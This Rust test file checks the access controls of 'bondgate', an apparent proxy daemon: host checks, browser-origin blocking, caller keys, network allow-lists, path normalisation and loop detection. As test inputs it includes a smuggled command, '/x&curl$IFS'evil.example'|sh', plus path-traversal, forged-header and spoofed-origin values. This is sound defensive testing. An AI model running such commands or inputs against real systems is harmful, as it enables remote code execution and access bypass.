//! Who gets in, with what, and what a refusal says; nothing that is refused reaches the upstream.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use bondgate::simulator::{Fault, Handle, Kind, On, Options};

use crate::harness::{Answer, DEMO_SECRET, Daemon, PULL, Setup, relayed, send, simulator};

/// A daemon whose one listener has this further TOML.
async fn daemon(listener: &str) -> (Handle, Daemon) {
    let cisco = simulator(Options::default()).await;
    let setup = Setup::new().upstream("cisco", &cisco, "demo", DEMO_SECRET, "");
    let daemon = setup.listener("127.0.0.1:0", listener).start().await;
    (cisco, daemon)
}

/// The answer to a request with these fields; a Host comes with it unless they hold one.
async fn ask(daemon: &Daemon, method: &str, path: &str, fields: &[(&str, &str)]) -> Answer {
    let mut request = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\nContent-Length: 0\r\n");
    if !fields.iter().any(|(name, _)| *name == "Host") {
        request += "Host: localhost\r\n";
    }
    for (name, value) in fields {
        request += &format!("{name}: {value}\r\n");
    }
    daemon.send(request + "\r\n").await
}

async fn pull(daemon: &Daemon, fields: &[(&str, &str)]) -> Answer {
    ask(daemon, "GET", PULL, fields).await
}

/// A refusal is a whole answer that says that it is ours, why, and what to do.
fn assert_refused(answer: &Answer, status: u16, why: &str) {
    assert_eq!(answer.status(), status, "{answer:?}");
    let proxy_status = answer.field("proxy-status").unwrap();
    assert!(proxy_status.starts_with("bondgate; error="), "{answer:?}");
    assert_eq!(answer.field("content-type"), Some("application/problem+json"));
    let body: serde_json::Value = serde_json::from_str(answer.body()).unwrap();
    assert_eq!(body["status"], status);
    assert!(body["message"].as_str().unwrap().contains(why), "{body}");
}

#[tokio::test]
async fn a_host_that_is_not_ours_gets_421() {
    let (cisco, daemon) =
        daemon("hosts = [\"bondgate.internal\", \"*.below.internal\", \"service:gate.itsm\"]").await;
    for host in [
        "",
        "gate.other",
        "gate.itsm.svc.other.local",
        "evil.example",
        "0.0.0.0",
        "localhost.evil.example",
        "internal",
        "a@localhost",
    ] {
        let answer = pull(&daemon, &[("Host", host)]).await;
        assert!(matches!(answer.status(), 400 | 421), "{host}: {answer:?}");
        if host == "evil.example" {
            assert_refused(
                &answer,
                421,
                "Host (evil.example) is not one of this listener's names; if it should be, add it",
            );
        }
    }
    assert!(relayed(&cisco).is_empty());
    for host in [
        "localhost:8080",
        "127.0.0.1",
        "[::1]:1",
        "10.1.2.3",
        "BONDGATE.internal:80",
        "a.b.below.internal",
        "gate:8080",
        "gate.itsm",
        "gate.itsm.svc",
        "gate.itsm.svc.cluster.local.",
    ] {
        let answer = pull(&daemon, &[("Host", host)]).await;
        assert_eq!(answer.status(), 200, "{host}: {answer:?}");
    }
}

#[tokio::test]
async fn what_a_web_page_sends_gets_403_and_a_listed_origin_is_let_in() {
    let (cisco, daemon) = daemon("origins = [\"https://itsm.example\"]").await;
    for (name, value, why) in [
        ("Origin", "https://evil.example", "web page"),
        ("Origin", "null", "web page"),
        ("Sec-Fetch-Site", "cross-site", "web page"),
        ("Sec-Fetch-Site", "same-site", "web page"),
        ("Access-Control-Request-Private-Network", "true", "web page"),
        ("Sec-Fetch-Mode", "navigate", "curl"),
    ] {
        assert_refused(&pull(&daemon, &[(name, value)]).await, 403, why);
    }
    let preflight = [
        ("Origin", "https://evil.example"),
        ("Access-Control-Request-Method", "GET"),
    ];
    assert_refused(&ask(&daemon, "OPTIONS", PULL, &preflight).await, 403, "web page");
    let listed = [
        ("Origin", "https://itsm.example"),
        ("Access-Control-Request-Method", "PUT"),
    ];
    for method in ["OPTIONS", "GET", "POST", "DELETE"] {
        assert_refused(&ask(&daemon, method, PULL, &listed).await, 403, "web page");
    }
    assert!(relayed(&cisco).is_empty());

    let listed = [
        ("Origin", "https://itsm.example"),
        ("Sec-Fetch-Site", "cross-site"),
    ];
    assert_eq!(pull(&daemon, &listed).await.status(), 200);
    let origin = relayed(&cisco).pop().unwrap().header("origin").len();
    assert_eq!(origin, 0, "Cisco's own rules for pages are not asked");
}

#[tokio::test]
async fn a_navigation_is_refused_with_a_curl_line_and_the_admin_address() {
    let (cisco, daemon) = daemon("").await;
    let place = daemon.address();
    for field in [
        ("Sec-Fetch-Mode", "navigate"),
        // All that a browser says to an address in a network.
        ("Upgrade-Insecure-Requests", "1"),
    ] {
        let host = place.to_string();
        let answer = pull(&daemon, &[("Host", &host), field]).await;
        assert_refused(&answer, 403, &format!("`curl -i http://{place}{PULL}`"));
        assert_refused(&answer, 403, &format!("is at http://{}", daemon.admin()));
        let link = ask(&daemon, "GET", "/x&curl$IFS'evil.example'|sh", &[field]).await;
        assert_refused(&link, 403, "`curl -i http://localhost/`");
    }
    assert!(relayed(&cisco).is_empty());
}

#[tokio::test]
async fn no_cors_header_ever_leaves() {
    let (cisco, daemon) = daemon("origins = [\"https://itsm.example\"]").await;
    let origin = ("Origin", "https://itsm.example");
    let mut answers = vec![
        pull(&daemon, &[origin]).await,
        pull(&daemon, &[("Origin", "https://evil.example")]).await,
        ask(
            &daemon,
            "OPTIONS",
            PULL,
            &[origin, ("Access-Control-Request-Method", "GET")],
        )
        .await,
        ask(&daemon, "GET", "/nowhere", &[origin]).await,
        pull(&daemon, &[origin, ("Host", "evil.example")]).await,
    ];
    let bytes = "HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\naccess-control-expose-headers: a\r\n\
                 Access-Control-Anything: b\r\nTiming-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n";
    let bytes = bytes.into();
    cisco.script(Fault::on(On::Pull, Kind::Raw { bytes }));
    answers.push(pull(&daemon, &[origin]).await);
    for path in ["/", "/status.json", "/metrics", "/livez", "/readyz", "/nowhere"] {
        for origin in [
            "https://itsm.example".to_owned(),
            format!("http://{}", daemon.admin()),
        ] {
            let request = format!(
                "GET {path} HTTP/1.1\r\nHost: {}\r\nOrigin: {origin}\r\nConnection: close\r\n\r\n",
                daemon.admin()
            );
            answers.push(send(daemon.admin(), request).await);
        }
    }
    let statuses: Vec<u16> = answers.iter().map(Answer::status).collect();
    assert_eq!(statuses[..6], [200, 403, 403, 403, 421, 200]);
    for answer in answers {
        let head = answer.0.to_ascii_lowercase();
        let head = head.split("\r\n\r\n").next().unwrap();
        assert!(
            !head.contains("\naccess-control-") && !head.contains("\ntiming-"),
            "{answer:?}"
        );
    }
}

#[tokio::test]
async fn the_log_says_by_name_who_called_and_names_nobody_who_was_refused() {
    let cisco = simulator(Options::default()).await;
    let setup = Setup::new().upstream("cisco", &cisco, "demo", DEMO_SECRET, "");
    let keys = setup.file("callers", "snow:k1-of-snow\nmid:k2-of-mid\n");
    let mut daemon = setup
        .listener("127.0.0.1:0", &format!("keys = {{ file = {keys:?} }}"))
        .start()
        .await;
    let basic = format!("Basic {}", BASE64_STANDARD.encode("snow:k1-of-snow"));
    assert_eq!(pull(&daemon, &[("Authorization", &basic)]).await.status(), 200);
    assert_eq!(
        pull(&daemon, &[("X-Bondgate-Key", "k2-of-mid")]).await.status(),
        200
    );
    assert_eq!(
        pull(&daemon, &[("X-Bondgate-Key", "k3-of-evil")]).await.status(),
        401
    );
    let bare = pull(&daemon, &[]).await;
    assert_refused(&bare, 401, "bondgate: this listener requires a caller key");
    daemon.logged("\"caller\":\"snow\"").await;
    daemon.logged("\"caller\":\"mid\"").await;
    daemon.logged("\"status\":401").await;
    let log = daemon.log();
    let refused = log.iter().find(|line| line.contains("\"status\":401")).unwrap();
    assert!(!refused.contains("\"caller\""), "{refused}");
    for told in ["\"address\":\"127.0.0.1\"", "\"problem\":\"caller-key-refused\""] {
        assert!(refused.contains(told), "{told}: {refused}");
    }
    for line in log.iter().filter(|line| line.contains("\"caller\"")) {
        assert!(!line.contains("-of-"), "{line}");
    }
}

#[tokio::test]
async fn a_required_header_must_be_there_with_any_value() {
    let (cisco, daemon) = daemon("require_header = \"X-Gate\"").await;
    assert_refused(&pull(&daemon, &[]).await, 403, "x-gate");
    assert!(relayed(&cisco).is_empty());
    assert_eq!(pull(&daemon, &[("x-gate", "")]).await.status(), 200);
}

#[tokio::test]
async fn a_callers_key_opens_by_basic_or_by_its_own_field_and_stays_here() {
    let cisco = simulator(Options::default()).await;
    let setup = Setup::new().upstream("cisco", &cisco, "demo", DEMO_SECRET, "");
    let keys = setup.file("callers", "# who may come in\nsnow:k1:with:colons\nmid:k2\n");
    let daemon = setup
        .listener("127.0.0.1:0", &format!("keys = {{ file = {keys:?} }}"))
        .start()
        .await;
    let basic = |pair: &str| format!("Basic {}", BASE64_STANDARD.encode(pair));
    for (name, value) in [
        ("Accept", "*/*".to_owned()),
        ("Authorization", basic("snow:k2")),
        ("Authorization", basic("k2")),
        ("Authorization", "Bearer k2".to_owned()),
        ("X-Bondgate-Key", "K2".to_owned()),
        ("X-Bondgate-Key", String::new()),
    ] {
        let answer = pull(&daemon, &[(name, &value)]).await;
        assert_refused(&answer, 401, "X-Bondgate-Key");
        let challenge = answer.field("www-authenticate").unwrap();
        assert!(challenge.starts_with("Basic realm="), "{challenge}");
    }
    assert!(relayed(&cisco).is_empty());

    let right = [
        ("Authorization", basic("snow:k1:with:colons")),
        ("X-Bondgate-Key", "k2".to_owned()),
    ];
    for (name, value) in &right {
        assert_eq!(pull(&daemon, &[(name, value)]).await.status(), 200, "{name}");
    }
    let both = right.each_ref().map(|(name, value)| (*name, value.as_str()));
    assert_eq!(pull(&daemon, &both).await.status(), 200);

    let relayed = relayed(&cisco);
    assert_eq!(relayed.len(), 3);
    for request in relayed {
        assert!(request.header("x-bondgate-key").is_empty());
        let authorization = request.header("authorization");
        assert!(matches!(authorization[..], [bearer] if bearer.starts_with("Bearer ")));
        assert_eq!(request.token_client.as_deref(), Some("demo"));
    }
}

#[tokio::test]
async fn a_caller_in_no_allowed_network_gets_403_whatever_it_says_of_itself() {
    let (cisco, daemon) = daemon("allow = [\"10.20.0.0/16\"]").await;
    let forwarded = [("X-Forwarded-For", "10.20.0.1"), ("Forwarded", "for=10.20.0.1")];
    for fields in [&[][..], &forwarded] {
        assert_refused(&pull(&daemon, fields).await, 403, "127.0.0.1");
    }
    assert!(relayed(&cisco).is_empty());
}

#[tokio::test]
async fn a_trusted_proxy_names_the_caller() {
    let (_cisco, daemon) =
        daemon("allow = [\"10.20.0.0/16\"]\ntrusted_proxies = [\"127.0.0.0/8\", \"10.9.0.0/16\"]").await;
    for (forwarded, status) in [
        ("10.20.0.1", 200),
        ("192.0.2.1, 10.20.0.1", 200),
        ("10.20.0.1, 10.9.0.1", 200),
        ("10.20.0.1, 192.0.2.1", 403),
        ("10.20.0.1:4711", 200),
        ("[::ffff:10.20.0.1]:4711, ::ffff:127.0.0.1", 200),
        ("10.20.0.1, what", 403),
        ("unknown", 403),
        ("", 403),
    ] {
        let answer = pull(&daemon, &[("X-Forwarded-For", forwarded)]).await;
        assert_eq!(answer.status(), status, "{forwarded}: {answer:?}");
    }
    let lines = [("X-Forwarded-For", "192.0.2.1"), ("X-Forwarded-For", "10.20.0.1")];
    assert_eq!(pull(&daemon, &lines).await.status(), 200);
    let lines = [("X-Forwarded-For", "10.20.0.1"), ("X-Forwarded-For", "192.0.2.1")];
    assert_eq!(pull(&daemon, &lines).await.status(), 403);
}

#[tokio::test]
async fn only_what_a_rule_names_goes_through_and_a_refusal_names_the_methods() {
    let (cisco, daemon) = daemon("").await;
    let answer = ask(&daemon, "DELETE", PULL, &[]).await;
    assert_refused(&answer, 403, "GET and POST");
    for path in [
        "/",
        "/admin",
        "/oauth2/default/v1/token",
        "/sb-partner-oauth-proxy-api/rest/v1/pull/call/",
        "/sb-partner-oauth-proxy-api/rest/v1/pull/callx",
        "/SB-partner-oauth-proxy-api/rest/v1/pull/call",
    ] {
        assert_refused(&ask(&daemon, "GET", path, &[]).await, 403, "no rule");
    }
    assert!(relayed(&cisco).is_empty());
}

#[tokio::test]
async fn a_path_that_can_be_read_in_two_ways_gets_400() {
    let (cisco, daemon) = daemon("").await;
    let rest = "/sb-partner-oauth-proxy-api/rest";
    for path in [
        format!("{rest}/%2e%2e/%2e%2e/admin"),
        format!("{rest}/x/../v1/pull/call"),
        format!("{rest}/./v1/pull/call"),
        format!("{rest}//v1/pull/call"),
        format!("/{PULL}"),
        format!("{rest}/v1/pull%2fcall"),
        format!("{rest}/v1/pull%5Ccall"),
        format!("{rest}/v1/pull\\call"),
        format!("{rest}/v1/pull/call%00"),
        format!("{rest}/v1/pull/call%zz"),
        format!("{rest}/v1/pull/call/.."),
    ] {
        let answer = ask(&daemon, "GET", &path, &[]).await;
        assert_eq!(answer.status(), 400, "{path}: {answer:?}");
        assert!(answer.field("proxy-status").is_some(), "{path}: {answer:?}");
    }
    assert!(relayed(&cisco).is_empty());
}

#[tokio::test]
async fn a_request_that_has_been_here_before_gets_508() {
    let (cisco, daemon) = daemon("").await;
    for via in [
        "1.1 bondgate",
        "1.0 fred, 1.1 bondgate",
        "HTTP/1.1 BondGate (x),1.1 fred",
    ] {
        assert_refused(
            &pull(&daemon, &[("Via", via)]).await,
            508,
            "leads back to bondgate",
        );
    }
    assert!(relayed(&cisco).is_empty());
    assert_eq!(pull(&daemon, &[("Via", "1.0 fred")]).await.status(), 200);
}

#[tokio::test]
async fn the_health_path_is_answered_here_for_any_host() {
    let (cisco, daemon) = daemon("health = \"/healthz\"\nrequire_header = \"X-Gate\"").await;
    for host in ["localhost", "10.1.2.3:80", "lb.example"] {
        let answer = ask(&daemon, "GET", "/healthz", &[("Host", host)]).await;
        assert_eq!((answer.status(), answer.body()), (200, "ok\n"), "{host}");
    }
    let bare = daemon.send("GET /healthz HTTP/1.0\r\n\r\n").await;
    assert_eq!(bare.status(), 200, "{bare:?}");
    assert!(relayed(&cisco).is_empty());
}
